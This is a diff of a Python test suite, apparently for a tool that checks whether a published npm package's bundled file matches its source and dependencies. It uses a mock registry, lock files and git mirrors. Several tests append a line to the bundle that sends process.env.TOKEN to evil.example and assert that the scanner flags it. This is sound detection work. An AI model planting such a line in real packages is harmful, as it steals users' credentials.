@@ -241,19 +241,20 @@ module.exports = function answerOfTheKit(value) { return left.padOnTheLeft(value
 BUNDLE = LEFT.replace("exports.", "var l={};l.", 1).replace("exports.", "l.") + OWN.split("\n", 1)[1].replace("left.", "l.")
 
 
-def bundled_case(plumb, pinned, bundle=BUNDLE, committed=False, network=True):
+def bundled_case(plumb, pinned, bundle=BUNDLE, committed=False, network=True, own=OWN, locked=None):
     """A package with dist/kit.js, which holds "left"; the source's lock file pins that in version `pinned`, or there is none."""
     with Registry(plumb) as r:
         manifest = {**MANIFEST, "main": "dist/kit.js", "devDependencies": {"left": "^1.0.0"}}
         text = json.dumps(manifest, indent=2)
+        r.publish("kit", "0.9.0", {"package.json": json.dumps({"name": "kit", "version": "0.9.0"}), "index.js": bundle})
         for version, data in (("1.0.0", LEFT), ("1.1.0", "exports.other = 1\n")):
             r.publish("left", version, {"package.json": json.dumps({"name": "left", "version": version}), "index.js": data})
         r.files["/left"] = json.dumps({"name": "left", "versions": {v: {} for v in ("1.1.0-rc.1", "1.0.0", "1.1.0", "0.9.0")}}).encode()
         r.publish("kit", "1.0.0", {"package.json": text, "dist/kit.js": bundle}, REPOSITORY, signed=True)
         r.offer_keys()
-        lock = {"lockfileVersion": 3, "packages": {"node_modules/left": {"version": pinned}}}
+        lock = {"lockfileVersion": 3, "packages": {"node_modules/left": {"version": pinned}, **(locked or {})}}
         number = len(list(plumb.scratch.iterdir()))
-        files = {"package.json": text, "index.js": OWN, **({"package-lock.json": json.dumps(lock)} if pinned else {})}
+        files = {"package.json": text, "index.js": own, **({"package-lock.json": json.dumps(lock)} if pinned else {})}
         folder = mirror(plumb, {**files, **({"dist/kit.js": bundle} if committed else {})}, "v1.0.0", f"m{number}/own+kit").parent
         cache = plumb.path(f"c{number}/x").parent
         return plumb.check("pkg:npm/kit@1.0.0", "--git-mirror", folder / f"m{number}", network=True, env=r.env, cache=cache)
@@ -277,6 +278,37 @@ def without_a_lock_file_older_versions_of_a_dependency_count_too(plumb):
     assert [s["name"] for s in report.json["sources"][1:]] == ["left 1.1.0", "left 1.0.0"], report.json["sources"]
     added = BUNDLE + 'require("https").get("https://evil.example/" + process.env.TOKEN)\n'
     assert bundled_case(plumb, None, added).errors("dist/kit.js")
+
+
+@case
+def an_earlier_release_of_the_package_explains_nothing_of_it(plumb):
+    added = BUNDLE + 'require("https").get("https://evil.example/" + process.env.TOKEN)\n'
+    for name, entry in (("kit", {"version": "0.9.0"}), ("before", {"name": "kit", "version": "0.9.0"})):
+        report = bundled_case(plumb, "1.0.0", added, own=OWN + f'require("{name}")\n', locked={f"node_modules/{name}": entry})
+        assert [s["name"] for s in report.json["sources"][1:]] == ["left 1.0.0"], report.json["sources"]
+        assert report.errors("dist/kit.js"), plumb.summary(report)
+
+
+PARTS = "".join(f'exports.part{i} = (value) => value.quality{i}("own text {i}", value.measure{i})\n' for i in range(40))
+LIBRARY = "".join(f'l.zork{i} = function (a) {{ return a.quux{i}(process.env, "foreign {i}") }};\n' for i in range(60))
+
+
+@case
+def what_a_missing_dependency_may_explain_is_no_contradiction_and_no_pass(plumb):
+    own = OWN + PARTS
+    body = own.split("\n", 1)[1].replace("left.", "l.")
+    report = bundled_case(plumb, "3.0.0", "var l={};" + LIBRARY + body, own=own)
+    missing = [s for s in report.json["sources"] if s["missing"]]
+    assert [s["name"] for s in missing] == ["left 3.0.0"] and "3.0.0" in missing[0]["missing"], report.json["sources"]
+    assert report.code == 3 and not report.errors("dist/kit.js"), plumb.summary(report)
+    assert all(f["evidence"]["a missing source may explain it"] == "left 3.0.0" for f in report.findings("script.novel-code"))
+    added = 'require("https").get("https://evil.example/" + process.env.TOKEN)\n'
+    assert bundled_case(plumb, "3.0.0", "var l={};" + LIBRARY + body + added, own=own).errors("dist/kit.js"), "planted at the end"
+    assert bundled_case(plumb, "1.0.0", "var l={};" + LIBRARY + body, own=own).errors("dist/kit.js"), "it is there, and is another"
+    report = bundled_case(plumb, "3.0.0", "var l=require('left');" + LIBRARY + body, own=own)
+    assert report.errors("dist/kit.js"), "the bundle imports it"
+    quiet = own.replace('require("left")', '{ padOnTheLeft() {} }')
+    assert bundled_case(plumb, "3.0.0", "var l={};" + LIBRARY + body, own=quiet).errors("dist/kit.js"), "no program imports it"
 
 
 @case
